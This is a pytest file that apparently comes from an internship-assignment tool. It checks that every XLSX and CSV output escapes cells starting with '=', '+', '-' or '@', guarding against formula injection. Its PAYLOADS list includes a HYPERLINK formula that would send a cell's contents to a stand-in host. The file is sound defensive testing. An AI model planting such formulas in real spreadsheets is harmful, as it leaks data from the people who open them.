"""Formula safety everywhere (issue 18, item 6): every workbook and CSV file a command writes
goes through the one formula-safe cell writer (io/_cells.py). Each writer is given an instance
whose every text field starts with '=', '+', '-' or '@', and no cell of what it writes is a
formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from affectation.cli import main
from affectation.datasets import generate
from affectation.io import instance_from_dict, instance_to_dict, save_instance
from affectation.io._cells import DANGEROUS

PAYLOADS = ('=HYPERLINK("http://x?leak="&A2,"Voir")', "+1+1", "-2+3", "@SUM(A1)")


def _nasty(n: int = 40):
    """The generated instance with a payload in front of every text: ids, names, towns."""
    doc = instance_to_dict(generate(n, seed=3, couples=0))
    count = iter(range(10**6))

    def bad(text: str) -> str:
        return f"{PAYLOADS[next(count) % len(PAYLOADS)]}{text}"

    terrain_ids = {t["id"]: bad(t["id"]) for t in doc["terrains"]}
    for terrain in doc["terrains"]:
        terrain["id"] = terrain_ids[terrain["id"]]
        terrain["nom"], terrain["ville"] = bad("nom"), bad("ville")
    for interne in doc["internes"]:
        interne["id"] = bad(interne["id"])
        interne["nom"], interne["prenom"] = bad("Martin"), bad("Léa")
        interne["voeux"] = [terrain_ids[t] for t in interne["voeux"]]
    doc["nom"] = bad("session")
    return instance_from_dict(doc)


def _no_formula_in_workbook(path: Path) -> int:
    """The number of text cells checked; fails on any formula element in any sheet."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                data = archive.read(name)
                assert not re.search(rb"<(\w+:)?f[ >]", data), (path, name)
    import openpyxl

    book = openpyxl.load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value[:1] in DANGEROUS:
                    assert cell.quotePrefix, (path, sheet.title, cell.coordinate)
                    texts += 1
    return texts


def _no_formula_in_csv(path: Path) -> int:
    text = path.read_bytes().decode("utf-8-sig")
    sep = ";" if text.split("\n", 1)[0].count(";") else ","
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=sep) for cell in row]
    for cell in cells:
        assert cell[:1] not in DANGEROUS or re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell), (
            path, cell)
    return sum(1 for cell in cells if cell.startswith("'") and cell[1:2] in DANGEROUS)


@pytest.fixture(scope="module")
def nasty_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("nasty") / "instance.json"
    save_instance(_nasty(), path)
    return path


def _run(*args: str) -> None:
    run = CliRunner().invoke(main, list(args))
    assert run.exit_code in (0, 3), run.output


def test_every_command_output_is_formula_free(nasty_file: Path, tmp_path: Path) -> None:
    instance = _nasty()
    workbooks, tables = [], []
    for out in ("r.xlsx", "r.csv", "dossier"):
        _run("solve", str(nasty_file), "--out", str(tmp_path / out))
    workbooks.append(tmp_path / "r.xlsx")
    tables += [tmp_path / "r.csv", *sorted((tmp_path / "dossier").iterdir())]
    save_instance(instance, tmp_path / "i.xlsx")
    (tmp_path / "csv").mkdir()
    save_instance(instance, tmp_path / "csv")
    workbooks.append(tmp_path / "i.xlsx")
    tables += sorted((tmp_path / "csv").iterdir())
    _run("prechoix", str(nasty_file), "--samples", "3", "--out", str(tmp_path / "p.xlsx"))
    workbooks.append(tmp_path / "p.xlsx")
    _run("plan", str(nasty_file), "--promotion", "10", "--semesters", "2", "--per-terrain",
         "--out", str(tmp_path / "plan.xlsx"))
    workbooks.append(tmp_path / "plan.xlsx")
    _run("simulate", str(nasty_file), "--futures", "2", "--semesters", "2", "--workers", "1",
         "--out", str(tmp_path / "careers.csv"))
    tables.append(tmp_path / "careers.csv")
    for path in workbooks:  # each holds payloads, written as texts
        assert _no_formula_in_workbook(path) > 0, path
    for path in tables:
        escaped = _no_formula_in_csv(path)
        assert escaped > 0 or path.name in ("impositions.csv", "careers.csv", "couples.csv",
                                            "parametres.csv"), path
